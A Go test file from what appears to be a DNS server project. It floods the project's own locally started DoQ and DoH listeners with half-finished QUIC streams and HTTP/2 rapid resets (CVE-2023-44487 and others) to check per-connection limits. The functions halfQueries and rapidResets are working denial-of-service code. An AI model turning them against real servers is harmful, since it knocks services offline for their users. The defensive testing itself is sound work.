package attack

import (
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net/netip"
	"sync"
	"testing"
	"time"

	"github.com/quic-go/quic-go"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"onoma/dns"
)

// TestEncryptedFloods: connections over QUIC with as many streams as may be, each with half a query, and over HTTP/2 with
// requests that are taken back as soon as they are made (CVE-2023-44487; Unbound CVE-2026-14586, 32665, 41637; BIND CVE-2026-3593).
func TestEncryptedFloods(t *testing.T) {
	w := newWorld(t)
	mute := w.zone("mute.", "")
	mute.server.set(silent)
	at := func(host byte) netip.AddrPort {
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 18, w.block, host}), w.port)
	}
	doq, doh := at(240), at(241)
	w.start("--tls-self-signed", "--listen", "quic://"+doq.String(), "--listen", "https://"+doh.String()+"/dns-query")
	const connections, streams, resets = 40, 100, 1000
	cost := w.attack(2*connections, 5*time.Second, func() {
		var wg sync.WaitGroup
		for i := range connections {
			for _, attack := range []func() error{
				func() error { return halfQueries(t, doq, streams) },
				func() error { return rapidResets(t, doh, mute.at("r%d", i), resets) },
			} {
				wg.Go(func() {
					if err := attack(); err != nil {
						t.Errorf("connection %d: %v", i, err)
					}
				})
			}
		}
		wg.Wait()
		time.Sleep(500 * time.Millisecond) // while all of them stand
	})
	w.row(row{attack: "DoQ and DoH floods, CVE-2023-44487, CVE-2026-14586, 32665, 41637, 3593", defence: "limits for each connection and each address: 100 streams of each, 4096 half queries and 32,768 waiting clients in all",
		// A handshake, and 1000 headers or 100 streams. At most 4096 streams wait for the rest of a query and 32,768 clients for
		// answers, 12 KB and 2 KB each, besides the connections; the collector lets as much again lie, and as much as the caches have.
		ceiling: ceiling{messages: 5, octets: 1000, cpu: 150, memory: 320 << 20}, cost: cost,
		seen: fmt.Sprintf("%d connections with %d half queries, %d with %d requests taken back", connections, streams, connections, resets)})
}

// halfQueries opens a connection that stays until the end of the test, with half a query on each of its streams.
func halfQueries(t *testing.T, to netip.AddrPort, streams int) error {
	conn, err := quic.DialAddr(t.Context(), to.String(), &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"doq"}}, nil)
	if err != nil {
		return err
	}
	t.Cleanup(func() { _ = conn.CloseWithError(0, "") })
	for range streams {
		s, err := conn.OpenStream()
		if err != nil {
			return nil // as many as the server lets be
		}
		if _, err := s.Write([]byte{0xFF, 0xFF, 0}); err != nil { // 65535 octets to come
			return nil
		}
	}
	return nil
}

// rapidResets makes requests over HTTP/2 and takes each back at once. That the server has enough of it is no error.
func rapidResets(t *testing.T, to netip.AddrPort, name dns.Name, resets int) error {
	conn, err := tls.Dial("tcp", to.String(), &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return err
	}
	t.Cleanup(func() { conn.Close() })
	query, err := dns.NewQuery(0, dns.Question{Name: name, Type: dns.TypeA, Class: dns.ClassIN}, true).Append(nil)
	if err != nil {
		return err
	}
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with conn
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var header bytes.Buffer
	encoder := hpack.NewEncoder(&header)
	for i := range resets {
		header.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", to.String()}, {":path", "/dns-query?dns=" + base64.RawURLEncoding.EncodeToString(query)}, {"accept", "application/dns-message"}} {
			if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
				return err
			}
		}
		id := uint32(2*i + 1)
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return nil
		}
	}
	return nil
}
